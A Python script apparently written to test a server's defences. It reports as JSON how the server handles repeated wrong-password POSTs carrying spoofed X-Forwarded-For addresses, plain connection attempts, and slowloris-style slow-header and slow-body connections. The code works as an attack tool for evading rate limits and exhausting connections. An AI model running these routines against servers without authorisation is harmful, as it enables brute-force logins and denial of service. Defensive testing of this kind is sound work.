"""Attacks a server and says, as JSON, what became of it. TLS is spoken without looking at certificates.

attack.py login ADDRESS PORT NAME PATH COUNT   POST requests with a wrong password: the status of each, or how it failed
attack.py connect ADDRESS PORT                 one connection: accepted, or how it failed
attack.py slow ADDRESS NAME COUNT              COUNT connections each that are silent, dribble headers over TLS, dribble
                                               headers over plain HTTP, stop in their body: the seconds until their end
"""

from __future__ import annotations

import contextlib
import json
import select
import socket
import ssl
import sys
import time
from typing import Any

PATIENCE = 90
TLS = ssl.create_default_context()
TLS.check_hostname = False
TLS.verify_mode = ssl.CERT_NONE


def connect(address: str, port: int, name: str = "") -> socket.socket:
    """A connection, over TLS if a name is given."""
    connection = socket.create_connection((address, port), timeout=10)
    return TLS.wrap_socket(connection, server_hostname=name) if name else connection


def attempt(address: str, port: int, name: str, path: str, number: int) -> int | str:
    """Each attempt claims to come from somebody else."""
    body = b"password=wrong"
    head = (
        f"POST {path} HTTP/1.1\r\nHost: {name}\r\nContent-Length: {len(body)}\r\nConnection: close\r\n"
        f"X-Forwarded-For: 203.0.113.{number}\r\n\r\n"
    )
    try:
        with contextlib.closing(connect(address, port, name)) as connection:
            connection.sendall(head.encode() + body)
            return int(connection.recv(12).split()[1])
    except OSError as error:
        return type(error).__name__


def login(address: str, port: str, name: str, path: str, count: str) -> list[int | str]:
    return [attempt(address, int(port), name, path, number) for number in range(int(count))]


def reach(address: str, port: str) -> str:
    try:
        with socket.create_connection((address, int(port)), timeout=3):
            return "accepted"
    except OSError as error:
        return type(error).__name__


def ended(connection: socket.socket) -> bool:
    """Whether a readable connection has an answer or is closed; over TLS, a ticket for the next one is neither."""
    connection.setblocking(False)
    try:
        connection.recv(1)
    except (BlockingIOError, ssl.SSLWantReadError):
        return False
    except OSError:
        return True
    else:
        return True
    finally:
        connection.setblocking(True)


def slow(address: str, name: str, count: str) -> dict[str, list[float | None]]:
    """A connection that did not end within PATIENCE seconds has None."""
    kinds = ("silent", "header", "plain header", "body")
    opened: dict[socket.socket, tuple[str, float]] = {}
    for kind in kinds:
        for _number in range(int(count)):
            port, server_name = (80, "") if kind == "plain header" else (443, "" if kind == "silent" else name)
            connection = connect(address, port, server_name)
            if kind != "silent":
                connection.sendall(f"POST /upload HTTP/1.1\r\nHost: {name}\r\n".encode())
            if kind == "body":
                connection.sendall(b"Content-Length: 1000\r\n\r\nx")
            opened[connection] = (kind, time.monotonic())
    lives: dict[str, list[float | None]] = {kind: [] for kind in kinds}
    deadline, dribble = time.monotonic() + PATIENCE, 0.0
    while opened and time.monotonic() < deadline:
        closed = set(filter(ended, select.select(list(opened), [], [], 0.2)[0]))
        if time.monotonic() > dribble:
            dribble = time.monotonic() + 1
            for connection in [connection for connection, (kind, _start) in opened.items() if "header" in kind]:
                try:
                    connection.sendall(b"X-More: 1\r\n")
                except OSError:
                    closed.add(connection)
        for connection in closed:
            kind, start = opened.pop(connection)
            lives[kind].append(round(time.monotonic() - start, 1))
            connection.close()
    for kind, _start in opened.values():
        lives[kind].append(None)
    return lives


attacks: dict[str, Any] = {"login": login, "connect": reach, "slow": slow}
print(json.dumps(attacks[sys.argv[1]](*sys.argv[2:])))
